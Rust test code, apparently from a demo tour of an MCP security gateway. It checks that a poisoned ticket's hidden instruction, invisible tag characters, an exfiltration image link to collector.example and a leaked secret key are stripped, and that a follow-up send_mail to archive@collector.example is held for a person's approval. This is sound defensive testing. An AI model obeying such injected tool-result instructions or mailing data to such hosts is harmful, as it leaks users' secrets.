//! Question 5: hostile text in tool results. The demo's server returns a poisoned ticket and a key.

use anyhow::Result;
use sallyport_demo::{LEAKED_SECRET_KEY, POISON_MARK, POISONED_TICKET};
use serde_json::json;

use super::super::{Tour, answer::Answer, mcp::held_back};

/// Puts it.
pub async fn ask(tour: &mut Tour<'_>, answer: &mut Answer) -> Result<()> {
    let every = tour.every_scope();
    let ann = tour.ann(&every).await?;
    let ticket = tour.mcp.tool(&ann, "read_ticket", json!({"number": POISONED_TICKET})).await?;
    let text = ticket.json()["result"].to_string();
    let arrived = ticket.status == 200 && text.contains("invoice");
    let marks = text.matches(POISON_MARK).count();
    answer.core(
        "an instruction hidden in a ticket does not reach the client",
        arrived && marks == 0,
        format!("{}; the instruction came through {marks} time(s)", ticket.status),
    );
    let unseen = text.chars().filter(|c| ('\u{E0000}'..='\u{E007F}').contains(c)).count();
    answer.saw(
        "invisible characters are removed",
        arrived && unseen == 0,
        format!("{unseen} tag characters came through"),
    );
    let link = text.contains("https://collector.example/pixel");
    let word = if link { "came through" } else { "did not come through" };
    answer.saw("a link that would carry findings away is defused", arrived && !link, format!("the image link {word}"));
    let settings = tour.mcp.tool(&ann, "read_integration", json!({})).await?;
    let text = settings.json()["result"].to_string();
    let leaked = text.contains(LEAKED_SECRET_KEY);
    let word = if leaked { "came through" } else { "did not come through" };
    answer.core(
        "a credential in a result is redacted",
        settings.status == 200 && text.contains("acme-invoices") && !leaked,
        format!("{}; the secret key {word}", settings.status),
    );
    let before = tour.running.desk.desk().outbox.len();
    let mail = json!({"to": "archive@collector.example", "subject": "tour", "body": "what the ticket asked for"});
    let sent = tour.mcp.tool(&ann, "send_mail", mail).await?;
    let sent_now = tour.running.desk.desk().outbox.len() - before;
    answer.core(
        "after reading it, a mail waits for a person's word",
        sent_now == 0 && held_back(&sent),
        format!("send_mail: {}, {sent_now} mail(s) in the outbox", sent.status),
    );
    answer.lacks("inspection of tool results: hidden text, instructions, links, credentials, labelling as untrusted");
    answer.lacks("separation of control from content (taint): who has read untrusted text may not act unasked");
    answer.lacks("holding a changed tool definition until it is approved");
    Ok(())
}
